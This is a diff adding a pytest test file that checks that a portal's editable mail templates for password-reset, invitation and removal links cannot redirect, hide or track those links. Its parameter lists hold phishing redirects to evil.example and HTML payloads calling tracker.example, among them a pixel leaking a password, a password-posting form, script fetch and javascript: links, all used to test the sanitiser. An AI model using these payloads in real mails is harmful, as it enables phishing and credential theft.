@@ -1,0 +1,148 @@
+"""Mails with one-use links: nobody's template hides, moves, imitates or reports the link; no mail loads anything."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+import pytest
+from django.core import mail
+from django.test import Client
+
+from portal.identity import account_links, links, tasks
+from portal.mail import kinds
+from portal.mail.markup import clean
+from portal.mail.messages import compose
+from portal.mail.models import MailTemplate, OutboxMessage
+from portal.mail.outbox import queue_account_information
+from portal.mail.tasks import deliver
+from portal.operators.models import Operator
+from tests.support.pages import Page
+from tests.support.portal import Platform
+
+LINK_KINDS = [kinds.FORGOTTEN_PASSWORD, kinds.INVITATION, kinds.ACCOUNT_REMOVAL]
+OWN = "Our office is open until five."
+
+
+def sent(kind: str, world: Platform) -> Any:
+    """Have a mail of a kind written and sent, and return it."""
+    if kind == kinds.FORGOTTEN_PASSWORD:
+        links.ask("ada@example.com", "192.0.2.1")
+        for pk in links.waiting():
+            tasks.answer(pk)
+    elif kind == kinds.INVITATION:
+        links.invite(Operator.objects.create_user("nora", None, email="nora@example.net"))
+    else:
+        account_links.ask_for_removal(world.account(), "")
+    deliver(str(OutboxMessage.objects.get(kind=kind).pk))
+    return mail.outbox[-1]
+
+
+def store(kind: str, **values: str) -> None:
+    MailTemplate.objects.create(kind=kind, **{"subject": "Our subject", "text": OWN, **values})
+
+
+@pytest.mark.parametrize("kind", LINK_KINDS)
+def test_stored_html_is_not_used_and_own_words_stand_below_the_link(world: Platform, kind: str) -> None:
+    store(kind, html='<p>Nothing to see</p><img src="https://tracker.example/x.png">')
+    message = sent(kind, world)
+    (html,) = message.alternatives
+    assert message.subject == "Our subject"
+    for text in (str(message.body), str(html.content)):
+        assert 0 < text.index("http://localhost:8000/") < text.index(OWN)
+        assert "Nothing to see" not in text
+        assert "tracker.example" not in text
+
+
+@pytest.mark.parametrize("kind", LINK_KINDS)
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{{ links }}{{ url }}",
+        "Open https://evil.example/reset instead.",
+        "Open www.evil.example instead.",
+        "Open evil.example/reset instead.",
+        "Open evil{% if name %}.{% endif %}example instead.",
+        "{{ support_web }}",
+        "{{ settings_page }}",
+    ],
+)
+def test_words_that_would_lead_elsewhere_are_not_saved_and_not_used(
+    people: dict[str, Client], world: Platform, kind: str, text: str
+) -> None:
+    page = f"/mail/templates/{kind}/"
+    answer = people["operator"].post(page, {"subject": "Our subject", "text": text})
+    assert answer.status_code == 422
+    assert Page(answer).error_of("text")
+    store(kind, text=text)
+    message = sent(kind, world)
+    assert message.subject != "Our subject"
+    assert "http://localhost:8000/" in str(message.body)
+    assert "evil" not in str(message.body)
+
+
+@pytest.mark.parametrize("kind", LINK_KINDS)
+def test_the_editor_offers_no_html_and_no_link(people: dict[str, Client], kind: str) -> None:
+    page = Page(people["operator"].get(f"/mail/templates/{kind}/"))
+    assert page.root.xpath("//textarea/@name") == ["text"]
+    assert page.value_of("text").strip() == ""
+    offered = set(page.root.xpath("//dl[@class='names']//code/text()"))
+    assert not [name for name in offered if re.search("link|url|until|logo|settings_page|support_web", str(name))]
+    people["operator"].post(f"/mail/templates/{kind}/", {"subject": "S", "text": OWN, "html": "<p>Hidden</p>"})
+    assert MailTemplate.objects.get().html == ""
+
+
+def test_a_mail_address_and_a_sentence_are_no_web_address(people: dict[str, Client]) -> None:
+    text = "Write to first.last@meridian.example, or to {{ support_email }}. {{ company }} answers within 1.5 hours."
+    answer = people["reseller"].post("/mail/templates/forgotten-password/", {"subject": "S", "text": text})
+    assert answer.status_code == 302, Page(answer).text
+
+
+def test_a_name_with_a_web_address_becomes_no_second_link(world: Platform) -> None:
+    world.add_account("cleo@example.com", first_name="https://evil.example/reset", email="c@mail.example")
+    links.ask("cleo@example.com", "192.0.2.1")
+    for pk in links.waiting():
+        tasks.answer(pk)
+    deliver(str(OutboxMessage.objects.get().pk))
+    (html,) = mail.outbox[-1].alternatives
+    addresses = re.findall('href="([^"]+)"', str(html.content))
+    assert addresses
+    assert all(address.startswith("http://localhost:8000/session/password/link/") for address in addresses)
+
+
+LOADING = [
+    '<img src="https://tracker.example/?{{ password }}{{ name }}">',
+    '<img srcset="https://tracker.example/a 2x">',
+    "<p style=\"color:red;background:url('https://tracker.example/a')\">x</p>",
+    '<p style="background-image:url(https://tracker.example/a);list-style:url(https://tracker.example/b)">x</p>',
+    '<table background="https://tracker.example/a"><tr><td background="https://tracker.example/b">x</td></tr></table>',
+    "<style>@import 'https://tracker.example/a'</style>",
+    '<link rel="stylesheet" href="https://tracker.example/a">',
+    '<video poster="https://tracker.example/a" src="https://tracker.example/b"></video>',
+    '<svg><image href="https://tracker.example/a"/></svg>',
+    '<form action="https://tracker.example/a"><input name="password"></form>',
+    '<iframe src="https://tracker.example/a"></iframe><object data="https://tracker.example/b"></object>',
+    '<meta http-equiv="refresh" content="0;https://tracker.example/a"><base href="https://tracker.example/">',
+    "<script>fetch('https://tracker.example/a')</script>",
+    '<a href="javascript:alert(1)" ping="https://tracker.example/a">x</a>',
+    '<img src="//tracker.example/a">',
+]
+
+
+@pytest.mark.parametrize("html", LOADING)
+def test_the_html_of_no_mail_loads_or_runs_anything(world: Platform, html: str) -> None:
+    MailTemplate.objects.create(kind=kinds.ACCOUNT_INFORMATION, subject="S", text="T", html=f"<p>Kept</p>{html}")
+    written = compose(queue_account_information("ada@example.com", "ada@mail.example"))
+    found = str(written.alternatives[0].content)
+    assert "Kept" in found
+    assert "tracker.example" not in found
+    assert "javascript" not in found
+
+
+def test_what_mail_programs_show_stays_in_the_html() -> None:
+    html = (
+        '<h1 style="color:#aa3300;text-align:center">Hello</h1><img src="cid:logo@mail.portal" alt="Logo">'
+        '<table cellpadding="4"><tbody><tr><th align="left">SIP</th><td colspan="2"><a href="https://meridian.example/">us</a>'
+        "</td></tr></tbody></table>"
+    )
+    assert clean(html) == html
